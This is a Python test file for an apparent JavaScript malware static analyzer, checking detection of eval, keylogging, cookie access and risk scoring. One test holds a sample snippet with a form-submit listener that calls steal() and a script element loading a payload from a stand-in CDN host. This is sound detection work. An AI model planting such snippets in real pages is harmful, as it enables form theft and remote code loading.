"""
Tests for the AST pattern matcher and its regex fallback
"""

import pytest

from builders import KEYLOGGER_SCRIPT

from errors import InputTooLarge
from static_analyzer import CATEGORIES, StaticAnalyzer, parse_script


def test_eval_call_located():
    result = StaticAnalyzer().analyze_code('var x = 1;\neval("x + 1");\n')

    assert result['analysis_mode'] == 'ast'
    assert len(result['eval_usage']) == 1
    finding = result['eval_usage'][0]
    assert finding['type'] == 'eval_call'
    assert finding['line'] == 2
    assert finding['snippet'] == 'eval("x + 1")'
    assert result['risk_score'] == 25


def test_keylogger_script():
    result = StaticAnalyzer().analyze_code(KEYLOGGER_SCRIPT)

    assert [f['type'] for f in result['keylogging']] == ['keyboard_event_listener']
    assert [f['type'] for f in result['cookie_access']] == ['document_cookie']
    malware_types = {f['type'] for f in result['malware']}
    assert {'fetch_call', 'storage_access'} <= malware_types
    # 5000ms is not a long delay
    assert result['behavioral'] == []


def test_anti_debugging_and_injection_score_above_70():
    code = """
    debugger;
    document.querySelector('form').addEventListener('submit', function (e) { steal(e); });
    var s = document.createElement('script');
    s.src = 'https://cdn.example.net/payload.js';
    document.head.appendChild(s);
    """
    result = StaticAnalyzer().analyze_code(code)

    malware_types = {f['type'] for f in result['malware']}
    assert {'debugger_statement', 'form_submit_listener'} <= malware_types
    assert result['remote_code_loading'][0]['type'] == 'script_creation'
    assert result['risk_score'] > 70


def test_parse_failure_falls_back_to_regex():
    code = "var = eval(payload) ;;; }}}"
    result = StaticAnalyzer().analyze_code(code)

    assert result['analysis_mode'] == 'regex'
    assert result['parse_error']['type'] == 'ParseFailure'
    assert result['eval_usage'][0]['type'] == 'regex'
    assert result['eval_usage'][0]['match'].startswith('eval')
    assert result['risk_score'] >= 25


def test_parse_script_outcome():
    assert parse_script('let a = 1;').ok
    assert parse_script('let a = 1;').source_type == 'script'
    assert parse_script('import x from "y";').source_type == 'module'

    outcome = parse_script('function (')
    assert not outcome.ok
    assert outcome.error.kind == 'ParseFailure'


def test_module_syntax_is_walked():
    result = StaticAnalyzer().analyze_code('import run from "./run.js";\nexport default eval(run);\n')

    assert result['analysis_mode'] == 'ast'
    assert 'parse_error' not in result
    assert result['eval_usage'][0]['line'] == 2


def test_empty_script_scores_zero():
    result = StaticAnalyzer().analyze_code('')

    assert result['risk_score'] == 0
    assert all(result[category] == [] for category in CATEGORIES)


def test_non_string_rejected():
    with pytest.raises(TypeError):
        StaticAnalyzer().analyze_code(b'eval(1)')


def test_oversized_script_rejected():
    analyzer = StaticAnalyzer(max_script_bytes=64)
    with pytest.raises(InputTooLarge) as info:
        analyzer.analyze_code('x' * 65)
    assert info.value.to_dict()['limit'] == 64

    # exactly at the limit is fine
    analyzer.analyze_code('x' * 64)


def test_repeat_analysis_is_identical():
    analyzer = StaticAnalyzer()
    assert analyzer.analyze_code(KEYLOGGER_SCRIPT) == analyzer.analyze_code(KEYLOGGER_SCRIPT)


def test_more_findings_never_lower_score():
    analyzer = StaticAnalyzer()
    one = analyzer.analyze_code('eval(a);')
    two = analyzer.analyze_code('eval(a);\nnew Function("b")();')
    three = analyzer.analyze_code('eval(a);\nnew Function("b")();\nnavigator.userAgent;')

    assert one['risk_score'] <= two['risk_score'] <= three['risk_score']


def test_bracket_access_is_recognised():
    result = StaticAnalyzer().analyze_code("var c = document['cookie'];")
    assert result['cookie_access'][0]['type'] == 'document_cookie'


def test_long_timeout_is_behavioral():
    result = StaticAnalyzer().analyze_code('setTimeout(run, 60000);')

    assert result['behavioral'][0]['type'] == 'long_timeout'
    assert '60000' in result['behavioral'][0]['description']


def test_file_patterns():
    threats = StaticAnalyzer().analyze_file_patterns(
        "eval(a); eval(b); document.addEventListener('keydown', f); chrome.history.search({});"
    )
    by_type = {t['type']: t for t in threats}

    assert by_type['eval']['count'] == 2
    assert by_type['keylogging']['severity'] == 'critical'
    assert by_type['history_access']['category'] == 'state_access'


def test_summarize_findings():
    analyzer = StaticAnalyzer()
    summary = analyzer.summarize_findings(analyzer.analyze_code(KEYLOGGER_SCRIPT))

    names = [entry['category'] for entry in summary]
    assert 'Keylogging' in names
    assert 'Cookie Access' in names


if __name__ == '__main__':
    test_eval_call_located()
    test_keylogger_script()
    test_anti_debugging_and_injection_score_above_70()
    test_parse_failure_falls_back_to_regex()
    print("\n[OK] Static analyzer tests passed")
